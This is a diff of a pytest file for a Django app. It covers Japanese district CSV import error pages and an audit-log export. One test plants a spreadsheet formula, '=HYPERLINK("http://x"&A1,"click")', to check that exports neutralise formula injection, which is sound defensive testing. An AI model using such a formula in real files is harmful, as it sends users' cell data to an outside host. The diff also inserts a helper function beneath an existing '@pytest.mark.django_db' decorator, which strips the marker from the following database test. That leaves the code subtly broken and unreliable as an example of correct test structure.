@@ -256,15 +256,20 @@ def test_a_plain_list_given_to_import_rejected_is_sorted_and_capped():
 
 
 @pytest.mark.django_db
-def test_district_page_reports_a_nul_byte_as_a_row_error(client_as):
+def _import_page(client, upload, capture):
+    with capture(execute=True):
+        response = client.post("/areas/import/", {"file": upload})
+    return client.get(response["Location"]).content.decode()
+
+
+def test_district_page_reports_a_nul_byte_as_a_row_error(
+    client_as, django_capture_on_commit_callbacks
+):
     client = client_as(Role.ADMINISTRATOR)
     data = (DISTRICT_HEADER + "A01,北部,A0101,桜ヶ丘\x00一丁目\n").encode("cp932")
     upload = SimpleUploadedFile("districts.csv", data, content_type="text/csv")
-    response = client.post("/areas/import/", {"file": upload})
-    assert response.status_code == 400
-    assert f'<td class="num">2</td><td>町丁目名</td><td>{NUL_REASON}</td>' in (
-        response.content.decode()
-    )
+    page = _import_page(client, upload, django_capture_on_commit_callbacks)
+    assert f"<code>line 2: 町丁目名: {NUL_REASON}</code>" in page
     assert District.objects.count() == 0
 
 
@@ -279,15 +284,17 @@ def test_district_command_reports_a_nul_byte_as_a_row_error(tmp_path, capsys):
 
 
 @pytest.mark.django_db
-def test_district_page_lists_the_first_thousand_errors_and_counts_the_rest(client_as):
+def test_district_page_lists_the_first_thousand_errors_and_counts_the_rest(
+    client_as, django_capture_on_commit_callbacks
+):
     client = client_as(Role.ADMINISTRATOR)
     data = (DISTRICT_HEADER + "A01,北部,A0101\n" * 1205).encode()
     upload = SimpleUploadedFile("districts.csv", data, content_type="text/csv")
-    page = client.post("/areas/import/", {"file": upload}).content.decode()
-    assert "1205件の誤りがあるため、取り込みませんでした" in page
-    assert page.count('<td class="num">') == 1000
-    assert '<td class="num">1001</td>' in page and '<td class="num">1002</td>' not in page
-    assert "… 他 205 件のエラー" in page
+    page = _import_page(client, upload, django_capture_on_commit_callbacks)
+    assert "誤りは1205件です。" in page
+    assert "最初の1000件を表示しています。" in page
+    assert page.count("<li><code>line ") == 1000
+    assert "<code>line 1001: " in page and "<code>line 1002: " not in page
 
 
 @pytest.mark.django_db
@@ -362,8 +369,8 @@ def test_streaming_response_in_cp932():
 @pytest.mark.django_db
 def test_audit_log_export_never_holds_a_live_formula(client_as):
     client = client_as(Role.ADMINISTRATOR)
-    organisation = OrganisationFactory(name='=HYPERLINK("http://x"&A1,"click")')
-    audit.record_access(actor=client.user, action="view", target=organisation)
+    # A target whose text an attacker chose (an organisation's name, a file name).
+    audit.record_access(actor=client.user, action="view", target='=HYPERLINK("http://x"&A1,"click")')
 
     for encoding in ("utf-8", "cp932"):
         response = client.get("/staff/audit-log/export/", {"encoding": encoding})
